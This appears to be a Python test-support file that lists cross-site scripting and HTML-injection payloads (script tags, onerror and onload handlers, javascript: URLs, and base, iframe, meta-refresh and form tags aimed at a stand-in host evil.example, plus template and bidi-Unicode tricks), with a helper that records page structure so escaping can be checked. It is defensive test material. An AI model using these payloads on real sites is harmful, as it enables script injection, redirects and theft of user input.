"""What attackers write where a page shows it, and the shape of a page (T60)."""

from selectolax.lexbor import LexborHTMLParser

PAYLOADS = [
    "<script>alert(1)</script>", "<ScRiPt src=//evil.example>", "</title><script>alert(1)</script>",
    '"><script>alert(1)</script>', "'><script>alert(1)</script>", '" onfocus=alert(1) autofocus x="',
    "' onmouseover='alert(1)", "<img src=x onerror=alert(1)>", "<svg/onload=alert(1)>",
    "<svg><script>alert(1)</script>",
    "<span hidden>@ministre@gouv.fr</span>", "<a href=javascript:alert(1)>x</a>", "javascript:alert(1)",
    "data:text/html,<script>alert(1)</script>", "</textarea><script>alert(1)</script>", "</style><script>1</script>",
    "<style>*{display:none}</style>", "<link rel=me href=https://evil.example>", '<link rel="stylesheet" href=//evil>',
    "<meta http-equiv=refresh content=0;url=//evil>", "<base href=//evil.example>", "<iframe src=//evil.example>",
    "<object data=//evil>", "<embed src=//evil>", "<form action=//evil><input name=code>", "<math><mtext></math>",
    "<!--", "-->", "<![CDATA[", "&lt;script&gt;", "&#60;script&#62;", "{{ 7*7 }}", "{% raw %}", "%(handle)s", "%s%d%%",
    "\u202egpj.evil", "\u2066rtl\u2069", "\u200b\u200c", "</main></body></html>", "<bdi></bdi></bdi>",
    "\x00<b>", "`${1}`",
    "<template><b></template>", "<noscript><p title='</noscript><img src=x onerror=1>'>",
]  # fmt: skip


def shape(html: str) -> list[tuple[str, tuple[str, ...]]]:
    """Elements in order, with the names of their attributes."""
    root = LexborHTMLParser(html).root
    assert root is not None
    return [(node.tag or "", tuple(node.attributes)) for node in root.traverse()]
